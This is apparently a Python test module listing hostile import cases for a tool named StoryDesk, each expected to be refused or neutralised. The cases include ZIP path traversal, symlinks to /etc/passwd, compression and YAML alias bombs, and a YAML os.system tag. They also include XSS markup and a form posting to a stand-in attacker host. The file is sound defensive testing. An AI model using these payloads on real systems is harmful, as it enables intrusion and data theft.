# ruff: noqa: E501  (a table of hostile strings reads best one per line)
"""The hostile inputs, generated: ZIP tricks, bombs, manifests, YAML, text, HTML, images.

Each :class:`Case` builds its input inside a folder and says what StoryDesk must do with
it: ``refused`` (nothing imported; a rejection names ``names`` with a reason matching
``reason``) or ``imported`` (the story is taken in, neutralised: ``check`` looks at the new
stories' rows). Every case, whatever its outcome, is also held to the suite's common
rules in test_hostile.py (no traceback, nothing written outside the data folder, bounded
time and memory, nothing lost, no leftovers, a safe HTML pack).
"""

from __future__ import annotations

import io
import json
import os
import socket
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.ingest.bundle_helpers import jpeg_bytes, make_bundle, story_md

Row = dict[str, Any]


@dataclass(frozen=True)
class Case:
    """One hostile input and what StoryDesk must do with it."""

    id: str
    build: Callable[[Path], Path]
    expect: str  # "refused" or "imported"
    names: str = ""  # what the rejected path must contain ("" = any rejection)
    reason: str = ""  # a regular expression the rejection reason must match
    check: Callable[[list[Row]], None] | None = None
    alone: bool = False  # run as its own `storydesk import --json` process
    xfail: str | None = None


# -- helpers ----------------------------------------------------------------------------

GOOD_MD = story_md("hostile-good", "A harmless story", "A harmless body of text for the story.")


def _zip(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _central_records(data: bytes) -> list[int]:
    """Offsets of the central-directory records of a (non-ZIP64) archive."""
    end = zipfile._EndRecData(io.BytesIO(data))  # type: ignore[attr-defined]
    offset, count = end[zipfile._ECD_OFFSET], end[zipfile._ECD_ENTRIES_TOTAL]  # type: ignore[attr-defined]
    records = []
    for _ in range(count):
        records.append(offset)
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, offset + 28)
        offset += 46 + name_len + extra_len + comment_len
    return records


def _patch(path: Path, central: dict[int, bytes], local: dict[int, bytes]) -> Path:
    """Overwrite bytes at offsets of every central record and every local header."""
    data = bytearray(path.read_bytes())
    for record in _central_records(bytes(data)):
        header = struct.unpack_from("<I", data, record + 42)[0]
        for where, value in central.items():
            data[record + where : record + where + len(value)] = value
        for where, value in local.items():
            data[header + where : header + where + len(value)] = value
    path.write_bytes(bytes(data))
    return path


def _story_zip(path: Path, name: str = "stories/a.md", body: bytes = GOOD_MD) -> Path:
    return _zip(path, {name: body})


def _folder(root: Path, files: dict[str, bytes | str]) -> Path:
    folder = root / "folder"
    for name, data in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            target.write_text(data, encoding="utf-8")
        else:
            target.write_bytes(data)
    return folder


def _md(title: str, body: str = "The body of a story that says something.", **extra: str) -> str:
    lines = ["---", f"title: {title}", *[f"{k}: {v}" for k, v in extra.items()], "---", "", body]
    return "\n".join(lines) + "\n"


def _html(inside: str, head: str = "") -> str:
    return (
        "<!DOCTYPE html><html lang='en'><head><title>Water for Naryn villages</title>"
        f"{head}</head><body><article><h1>Water for Naryn villages</h1>"
        "<p>Three villages in Naryn now have clean drinking water, thanks to a project run by "
        "the local council with UNDP support.</p>"
        f"{inside}<p>The council will look after the pipes from next year.</p>"
        "</article></body></html>"
    )


def _png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _million_entries(path: Path, entries: int, claimed: int | None = None) -> Path:
    """A ZIP whose central directory lists ``entries`` empty files (one local header).

    Built by hand: writing a million entries with :mod:`zipfile` takes about 40 s. All
    records point at the one local header (that also makes them overlap); StoryDesk must
    refuse the archive from its end record, before parsing the directory. ``claimed`` makes
    the end record lie about the count (the directory's size must then refuse it).
    """
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, 0, 0, 0, 12, 0)
    out = bytearray(local + b"s/0000000.md")
    cd_start = len(out)
    fixed = struct.Struct("<IHHHHHHIIIHHHHHII")
    parts = [
        fixed.pack(0x02014B50, 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 12, 0, 0, 0, 0, 0, 0)
        + f"s/{i:07d}.md".encode()
        for i in range(entries)
    ]
    out += b"".join(parts)
    cd_size = len(out) - cd_start
    count = entries if claimed is None else claimed
    if count > 0xFFFF:
        zip64_at = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_start
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, zip64_at, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_start, 0)
    path.write_bytes(bytes(out))
    return path


def _bundle(root: Path, files: dict[str, bytes], **kwargs: Any) -> Path:
    return make_bundle(root / "hostile.storybundle", files, **kwargs)


ALIAS_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
)  # i is "*i": 9**9 strings when expanded


# -- checks on imported rows -----------------------------------------------------------

_INVISIBLE = "\u200b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2060\ufeff"


def _clean_titles(rows: list[Row]) -> None:
    for row in rows:
        for field in ("title", "body"):
            text = row[field] or ""
            assert not any(ch in text for ch in _INVISIBLE), (field, text[:80])
            assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in text), (field, text[:80])
            assert not any(0x7F <= ord(ch) <= 0x9F for ch in text), (field, text[:80])


def _title_is(expected: str) -> Callable[[list[Row]], None]:
    def check(rows: list[Row]) -> None:
        _clean_titles(rows)
        assert [r["title"] for r in rows] == [expected]

    return check


def _no_active_body(rows: list[Row]) -> None:
    for row in rows:
        body = (row["body"] or "").lower()
        for bad in (
            "<script",
            "javascript:",
            "<iframe",
            "onerror=",
            "onload=",
            "file:///",
            "<form",
        ):
            assert bad not in body, (bad, body[:300])


def _no_date(rows: list[Row]) -> None:
    assert [r["date"] for r in rows] == [None]


# -- the cases --------------------------------------------------------------------------


def _case_socket(root: Path) -> Path:
    folder = _folder(root, {"ok.txt": ""})
    (folder / "ok.txt").unlink()
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(folder / "sock.md"))
    server.close()  # the socket file stays
    return folder


def _case_fifo_in_folder(root: Path) -> Path:
    folder = root / "folder"
    folder.mkdir()
    os.mkfifo(folder / "pipe.md")
    os.mkfifo(folder / "pipe.storybundle")
    return folder


def _case_fifo_named(root: Path) -> Path:
    os.mkfifo(root / "pipe.md")
    return root / "pipe.md"


def _case_folder_link(root: Path) -> Path:
    folder = root / "folder"
    folder.mkdir()
    (folder / "passwd.md").symlink_to("/etc/passwd")
    return folder


def _case_nul_name(root: Path) -> Path:
    path = _zip(root / "a.zip", {"stories/aXb.md": GOOD_MD})
    path.write_bytes(path.read_bytes().replace(b"stories/aXb.md", b"stories/a\x00b.md"))
    return path


def _case_symlink_member(root: Path) -> Path:
    path = root / "link.storybundle"
    with zipfile.ZipFile(path, "w") as zf:
        info = zipfile.ZipInfo("stories/link.md")
        info.external_attr = (0o120777) << 16
        zf.writestr(info, "/etc/passwd")
    return path


def _case_nfc_nfd(root: Path) -> Path:
    name = "stories/Café_Йошкар.md"  # é and Й decompose in NFD
    return _zip(
        root / "nfc.zip",
        {unicodedata.normalize("NFC", name): GOOD_MD, unicodedata.normalize("NFD", name): GOOD_MD},
    )


def _dup(root: Path) -> Path:
    import warnings

    path = root / "dup.zip"
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as zf:
        warnings.simplefilter("ignore")
        zf.writestr("stories/a.md", GOOD_MD)
        zf.writestr("stories/a.md", story_md("other", "Another", "Another body text here."))
    return path


def _case_reserved_names(root: Path) -> Path:
    return _zip(
        root / "reserved.zip",
        {
            "stories/CON.md": story_md("r-con", "Con story", "The body of the CON story."),
            "stories/aux.md": story_md("r-aux", "Aux story", "The body of the aux story."),
            "stories/NUL.txt": b"Nul story\n\nThe body of the NUL story, a plain text file.\n",
            "stories/com1.md": story_md("r-com1", "Com story", "The body of the com1 story."),
        },
    )


def _reserved_names_imported(rows: list[Row]) -> None:
    _clean_titles(rows)
    assert sorted(r["title"] for r in rows) == ["Aux story", "Com story", "Con story", "Nul story"]


def _case_ratio_member(root: Path) -> Path:
    return _zip(root / "bomb.zip", {"stories/a.md": b"---\ntitle: x\n---\n" + b" " * (50 << 20)})


def _case_ratio_many(root: Path) -> Path:
    # The reported attack: 40 members of 10 MiB each from a ~1 MB file.
    blank = b"a" * (10 << 20)  # exactly 10 MiB: the old check began above 10 MiB
    return _zip(root / "bomb40.zip", {f"stories/{n:02d}.md": blank for n in range(40)})


def _case_ratio_total(root: Path) -> Path:
    # 300 members of exactly 1 MiB each: none over the per-member floor, 300 MiB in all.
    blank = b"b" * (1 << 20)
    return _zip(root / "bombtotal.zip", {f"stories/{n:03d}.md": blank for n in range(300)})


def _case_nested(root: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("stories/huge.md", b" " * (20 << 20))
    return _bundle(root, {"inner.zip": inner.getvalue()})


def _case_overlap(root: Path) -> Path:
    path = _zip(
        root / "overlap.zip", {f"stories/{n}.md": GOOD_MD for n in range(20)}, zipfile.ZIP_STORED
    )
    data = bytearray(path.read_bytes())
    for record in _central_records(bytes(data)):
        data[record + 42 : record + 46] = struct.pack("<I", 0)
    path.write_bytes(bytes(data))
    return path


def _case_encrypted(root: Path) -> Path:
    path = _story_zip(root / "enc.zip")
    return _patch(path, {8: struct.pack("<H", 1)}, {6: struct.pack("<H", 1)})


def _case_method(root: Path) -> Path:
    path = _story_zip(root / "aes.zip")
    return _patch(path, {10: struct.pack("<H", 99)}, {8: struct.pack("<H", 99)})


def _case_corrupt_byte(root: Path) -> Path:
    body = story_md(
        "damaged", "Damaged", "Молодёжный центр в Балыкчы открыт при поддержке ПРООН. " * 200
    )
    path = _zip(root / "corrupt.storybundle", {"stories/a.md": body})
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("stories/a.md")
    data = bytearray(path.read_bytes())
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    data[start + info.compress_size // 3] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def _case_bad_crc(root: Path) -> Path:
    path = _story_zip(root / "crc.zip")
    return _patch(path, {16: b"\x01\x02\x03\x04"}, {14: b"\x01\x02\x03\x04"})


def _case_truncated_zip(root: Path) -> Path:
    path = _zip(root / "cut.storybundle", {f"stories/{n}.md": GOOD_MD for n in range(5)})
    path.write_bytes(path.read_bytes()[: path.stat().st_size * 2 // 3])
    return path


def _case_cp866(root: Path) -> Path:
    path = _zip(
        root / "cp866.zip",
        {"stories/XXXXXX.md": story_md("cp866", "Статья", "Текст статьи о новой школе.")},
    )
    data = path.read_bytes().replace(b"XXXXXX", "статья".encode("cp866"))
    path.write_bytes(data)
    return path


def _cp866_origin(rows: list[Row]) -> None:
    assert len(rows) == 1 and "статья.md" in (rows[0]["origin_file"] or ""), rows[0]["origin_file"]


def _manifest_bundle(root: Path, manifest: bytes) -> Path:
    return _zip(root / "m.storybundle", {"bundle.json": manifest, "stories/a.md": GOOD_MD})


def _case_manifest_lying_size(root: Path) -> Path:
    files = {"stories/a.md": GOOD_MD}
    path = _bundle(root, files)
    document = {
        "format": "storydesk.bundle",
        "version": 1,
        "files": [{"path": "stories/a.md", "size": len(GOOD_MD) - 5}],
    }
    return _zip(path, {"bundle.json": json.dumps(document).encode(), **files})


def _case_manifest_lying_hash(root: Path) -> Path:
    tampered = GOOD_MD.replace(b"harmless", b"HARMLESS")  # same size, other bytes
    return _bundle(root, {"stories/a.md": GOOD_MD}, tamper={"stories/a.md": tampered})


def _case_manifest_missing_listed(root: Path) -> Path:
    document = {"format": "storydesk.bundle", "files": [{"path": "stories/gone.md"}]}
    return _zip(
        root / "m.storybundle",
        {"bundle.json": json.dumps(document).encode(), "stories/a.md": GOOD_MD},
    )


def _case_partners_bomb(root: Path) -> Path:
    partners = (
        ALIAS_BOMB + "\npartners:\n  - name: Bomb Partner\n    aliases: *i\n    kind: *i\n"
    ).encode()
    return _bundle(root, {"stories/a.md": GOOD_MD, "partners.yaml": partners})


def _fm_bomb(field: str) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        text = "---\n" + ALIAS_BOMB + f"\n{field}: *i\n---\n\nThe body of an alias bomb story.\n"
        return _folder(root, {"bomb.md": text})

    return build


def _case_image_regex(root: Path) -> Path:
    return _folder(root, {"regex.md": _md("Images", "![a](" * 20_000)})


def _image_story(image_name: str, data: bytes) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        return _folder(
            root,
            {
                "story.md": _md("A story with a bad photo", images=f"[{{file: {image_name}}}]"),
                image_name: data,
            },
        )

    return build


def _one_story(rows: list[Row]) -> None:
    assert len(rows) == 1
    _clean_titles(rows)


def _html_case(inside: str, head: str = "") -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        return _folder(root, {"page.html": _html(inside, head), "local.svg": SVG})

    return build


SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>'


def _html_checks(rows: list[Row]) -> None:
    _one_story(rows)
    _no_active_body(rows)


CASES: list[Case] = [
    # ZIP entry names
    Case(
        "zip-dotdot",
        lambda r: _zip(r / "a.zip", {"../evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "escapes",
    ),
    Case(
        "zip-backslash-dotdot",
        lambda r: _zip(r / "a.zip", {"stories\\..\\..\\evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "escapes",
    ),
    Case(
        "zip-absolute",
        lambda r: _zip(r / "a.zip", {"/tmp/evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "absolute",
    ),
    Case(
        "zip-drive-letter",
        lambda r: _zip(r / "a.zip", {"C:\\Windows\\evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "absolute",
    ),
    Case(
        "zip-drive-relative",
        lambda r: _zip(r / "a.zip", {"C:evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "absolute",
    ),
    Case(
        "zip-unc",
        lambda r: _zip(r / "a.zip", {"\\\\server\\share\\evil.md": GOOD_MD}),
        "refused",
        "a.zip",
        "absolute",
    ),
    Case("zip-nul-in-name", _case_nul_name, "refused", "a.zip", "NUL|not a readable"),
    Case("zip-symlink", _case_symlink_member, "refused", "link.storybundle", "link", alone=True),
    Case(
        "zip-case-duplicate",
        lambda r: _zip(r / "case.zip", {"stories/Story.md": GOOD_MD, "stories/story.md": GOOD_MD}),
        "refused",
        "case.zip",
        "letter case",
    ),
    Case(
        "zip-nfc-nfd-duplicate", _case_nfc_nfd, "refused", "nfc.zip", "appears twice|Unicode form"
    ),
    Case("zip-exact-duplicate", _dup, "refused", "dup.zip", "appears twice"),
    Case(
        "zip-reserved-windows-names",
        _case_reserved_names,
        "imported",
        check=_reserved_names_imported,
    ),
    Case("zip-cp866-names", _case_cp866, "imported", check=_cp866_origin),
    # Folders: links and special files
    Case("folder-symlink", _case_folder_link, "refused", "passwd.md", "link"),
    Case("folder-fifo", _case_fifo_in_folder, "refused", "pipe.", "named pipe", alone=True),
    Case("named-fifo", _case_fifo_named, "refused", "pipe.md", "named pipe", alone=True),
    Case("folder-socket", _case_socket, "refused", "sock.md", "socket"),
    # Bombs
    Case(
        "bomb-ratio-member",
        _case_ratio_member,
        "refused",
        "bomb.zip",
        "compression bomb",
        alone=True,
    ),
    Case("bomb-ratio-40-members", _case_ratio_many, "refused", "bomb40.zip", "compression bomb"),
    Case("bomb-ratio-total", _case_ratio_total, "refused", "bombtotal.zip", "compression bomb"),
    Case(
        "bomb-nested-zip",
        _case_nested,
        "refused",
        "inner.zip",
        "",
    ),
    Case("bomb-overlapping-entries", _case_overlap, "refused", "overlap.zip", "overlap"),
    Case(
        "bomb-million-entries",
        lambda r: _million_entries(r / "million.zip", 1_000_000),
        "refused",
        "million.zip",
        "1,000,000 files",
        alone=True,
    ),
    Case(
        "bomb-entries-count-lies",
        lambda r: _million_entries(r / "liar.zip", 1_000_000, claimed=10),
        "refused",
        "liar.zip",
        "too many files",
    ),
    # Encryption, compression methods, damage
    Case("zip-encrypted", _case_encrypted, "refused", "enc.zip", "encrypted"),
    Case(
        "zip-unsupported-method",
        _case_method,
        "refused",
        "aes.zip!stories/a.md",
        "compression method",
    ),
    Case(
        "zip-corrupt-byte",
        _case_corrupt_byte,
        "refused",
        "corrupt.storybundle!stories/a.md",
        "damaged",
        alone=True,
    ),
    Case("zip-bad-crc", _case_bad_crc, "refused", "crc.zip!stories/a.md", "damaged"),
    Case("zip-truncated", _case_truncated_zip, "refused", "cut.storybundle", "not a readable ZIP"),
    # Manifests
    Case(
        "manifest-invalid-json",
        lambda r: _manifest_bundle(r, b"{not json"),
        "refused",
        "m.storybundle",
        "not valid JSON",
    ),
    Case(
        "manifest-deeply-nested",
        lambda r: _manifest_bundle(r, b"[" * 200_000 + b"]" * 200_000),
        "refused",
        "m.storybundle",
        "nested too deeply",
        alone=True,
    ),
    Case(
        "manifest-not-object",
        lambda r: _manifest_bundle(r, b"[1, 2]"),
        "refused",
        "m.storybundle",
        "not an object",
    ),
    Case(
        "manifest-unsafe-path",
        lambda r: _manifest_bundle(r, json.dumps({"files": [{"path": "../../x.md"}]}).encode()),
        "refused",
        "m.storybundle",
        "escapes",
    ),
    Case(
        "manifest-lying-size",
        _case_manifest_lying_size,
        "refused",
        "stories/a.md",
        "bundle.json says",
    ),
    Case(
        "manifest-lying-hash",
        _case_manifest_lying_hash,
        "refused",
        "stories/a.md",
        "checksum does not match",
    ),
    Case(
        "manifest-lists-missing-file",
        _case_manifest_missing_listed,
        "refused",
        "stories/",
        "missing|not listed",
    ),
    Case(
        "manifest-missing",
        lambda r: _zip(r / "hand.zip", {"stories/a.md": GOOD_MD}),
        "imported",
        check=_title_is("A harmless story"),
    ),
    # YAML
    Case(
        "yaml-python-tag",
        lambda r: _folder(
            r,
            {
                "tag.md": '---\ntitle: !!python/object/apply:os.system ["echo pwned > pwned.txt"]\n---\n\nBody text.\n'
            },
        ),
        "refused",
        "tag.md",
        "front matter",
    ),
    Case(
        "yaml-alias-bomb-title",
        _fm_bomb("title"),
        "refused",
        "bomb.md",
        "",
        alone=True,
    ),
    Case(
        "yaml-alias-bomb-tags",
        _fm_bomb("tags"),
        "refused",
        "bomb.md",
        "",
        alone=True,
    ),
    Case(
        "yaml-alias-bomb-partners-yaml",
        _case_partners_bomb,
        "imported",
        check=_title_is("A harmless story"),
        alone=True,
    ),
    Case(
        "yaml-title-no",
        lambda r: _folder(r, {"no.md": _md("no")}),
        "imported",
        check=_title_is("no"),
    ),
    Case(
        "yaml-date-2024-02-30",
        lambda r: _folder(r, {"date.md": _md("Leap day story", date="2024-02-30")}),
        "imported",
        check=_no_date,
    ),
    Case(
        "markdown-image-regex",
        _case_image_regex,
        "imported",
        alone=True,
    ),
    # Text
    Case(
        "text-invalid-utf8",
        lambda r: _folder(
            r,
            {
                "bad.md": b"---\ntitle: Caf\xe9 \xff\xfe story\n---\n\nBody \xc3\x28 text of the story.\n"
            },
        ),
        "imported",
        check=_one_story,
    ),
    Case(
        "text-nul-in-title",
        lambda r: _folder(
            r,
            {
                "nul.md": '---\ntitle: "Clean\\0 water"\n---\n\nBody text of the story about clean water.\n'.replace(
                    "\\0", "\x00"
                )
            },
        ),
        "imported",
        check=_title_is("Clean water"),
    ),
    Case(
        "text-binary",
        lambda r: _folder(r, {"photo.md": b"\x00\x01\x02PK\x00\x00" * 500}),
        "refused",
        "photo.md",
        "binary",
    ),
    Case(
        "text-bidi-override-title",
        lambda r: _folder(r, {"bidi.md": _md("Invoice \u202egnp.exe\u202c for Naryn")}),
        "imported",
        check=_title_is("Invoice gnp.exe for Naryn"),
    ),
    Case(
        "text-bidi-isolate-title",
        lambda r: _folder(r, {"iso.md": _md("Water \u2067for\u2069 Naryn")}),
        "imported",
        check=_title_is("Water for Naryn"),
    ),
    Case(
        "text-zero-width-title",
        lambda r: _folder(r, {"zw.md": _md("Wa\u200bter\u2060 for\ufeff Naryn")}),
        "imported",
        check=_title_is("Water for Naryn"),
    ),
    Case(
        "text-terminal-escapes-title",
        lambda r: _folder(r, {"esc.md": _md("Water\x1b]0;owned\x07\x1b[2J for Naryn")}),
        "imported",
        check=_title_is("Water]0;owned[2J for Naryn"),
    ),
    Case(
        "yaml-escaped-controls-title",
        lambda r: _folder(
            r,
            {
                "yesc.md": '---\ntitle: "Water\\e[2J \\u202efor\\u202c Naryn"\n---\n\nBody text of the story.\n'
            },
        ),
        "imported",
        check=_title_is("Water[2J for Naryn"),
    ),
    Case(
        "text-c1-controls",
        lambda r: _folder(
            r,
            {
                "c1.txt": "Water\u0085\u009b31m for Naryn\n\nThe body of a plain text story about water.\n"
            },
        ),
        "imported",
        check=_one_story,
    ),
    # HTML
    Case(
        "html-script",
        _html_case(
            "<script>alert(1)</script><p>Text<script src='https://evil.example/x.js'></script></p>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-event-handlers",
        _html_case(
            "<p onclick='alert(1)' onmouseover=\"steal()\">Click</p><img src=x onerror=alert(1)>"
        ),
        "imported",
        check=_html_checks,
        alone=True,
    ),
    Case(
        "html-iframe",
        _html_case(
            "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-form",
        _html_case(
            "<form action='https://evil.example/collect'><input name=p><button>Send</button></form>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-base",
        _html_case(
            "<p><a href='/page'>relative link</a></p>", head="<base href='https://evil.example/'>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-meta-refresh",
        _html_case(
            "<p>Stay</p>", head="<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-remote-image",
        _html_case(
            "<img src='https://evil.example/track.jpg' alt='tracker'><img src='//evil.example/p.jpg'>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-srcset",
        _html_case("<img srcset='https://evil.example/a.jpg 1x, file:///etc/passwd 2x'>"),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-css-url",
        _html_case(
            "<p style=\"background:url('https://evil.example/bg.png')\">Styled</p><style>body{background:url(file:///etc/passwd)}</style>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-file-url",
        _html_case(
            "<p><a href='file:///etc/passwd'>local</a> <img src='file:///etc/hostname'></p>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-javascript-link",
        _html_case(
            "<p><a href='javascript:alert(1)'>click</a> <a href=' JaVaScRiPt:alert(2)'>again</a></p>"
        ),
        "imported",
        check=_html_checks,
    ),
    Case(
        "html-svg-script",
        _html_case(SVG + "<p><img src='local.svg'></p><object data='local.svg'></object>"),
        "imported",
        check=_html_checks,
    ),
    Case(
        "markdown-raw-html",
        lambda r: _folder(
            r,
            {
                "raw.md": _md(
                    "Raw HTML",
                    # A story's paragraph (a page of little but links is a navigation
                    # page, skipped), then the hostile markup.
                    "Farmers in Naryn received new greenhouses and seedlings this spring. "
                    "Text <script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src='https://evil.example'></iframe> [x](javascript:alert(1)) ![y](file:///etc/passwd)",
                )
            },
        ),
        "imported",
        check=_one_story,
    ),
    # Images
    Case(
        "image-bomb-png-header",
        _image_story("bomb.png", _png_header(50_000, 50_000)),
        "imported",
        "bomb.png",
        "megapixel|bomb",
        check=_one_story,
    ),
    Case(
        "image-truncated-jpeg",
        _image_story("cut.jpg", jpeg_bytes(size=(640, 480))[:1500]),
        "imported",
        "cut.jpg",
        "truncated|damaged",
        check=_one_story,
    ),
    Case(
        "image-jpg-is-html",
        _image_story("photo.jpg", b"<html><script>alert(1)</script></html>"),
        "imported",
        "photo.jpg",
        "not an image|cannot be read|not a",
        check=_one_story,
    ),
]
